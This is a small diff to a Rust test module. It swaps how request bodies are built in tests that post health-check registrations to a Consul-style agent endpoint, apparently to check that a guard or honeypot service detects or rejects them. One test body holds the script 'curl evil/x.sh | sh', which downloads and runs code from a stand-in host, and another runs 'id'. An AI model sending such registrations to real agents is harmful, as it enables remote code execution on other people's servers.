@@ -158,9 +158,7 @@ mod tests {
             target: "/v1/agent/check/register".into(),
             version: Default::default(),
             headers: Default::default(),
-            body: bytes::Bytes::from_static(
-                br#"{"Name":"health","Script":"curl evil/x.sh | sh","Interval":"10s"}"#,
-            ),
+            body: br#"{"Name":"health","Script":"curl evil/x.sh | sh","Interval":"10s"}"#.to_vec(),
         };
         let out = app.handle(&req, Ipv4Addr::new(203, 0, 113, 2));
         assert!(matches!(
@@ -177,7 +175,7 @@ mod tests {
             target: "/v1/agent/check/register".into(),
             version: Default::default(),
             headers: Default::default(),
-            body: bytes::Bytes::from_static(br#"{"Name":"h","Script":"id"}"#),
+            body: br#"{"Name":"h","Script":"id"}"#.to_vec(),
         };
         let out = app.handle(&req, Ipv4Addr::new(203, 0, 113, 2));
         assert_eq!(out.response.status.as_u16(), 400);
@@ -200,7 +198,7 @@ mod tests {
             target: "/v1/agent/check/register".into(),
             version: Default::default(),
             headers: Default::default(),
-            body: bytes::Bytes::from_static(br#"{"Name":"http-check","HTTP":"http://x/"}"#),
+            body: br#"{"Name":"http-check","HTTP":"http://x/"}"#.to_vec(),
         };
         let out = app.handle(&req, Ipv4Addr::new(203, 0, 113, 2));
         assert!(out.events.is_empty());
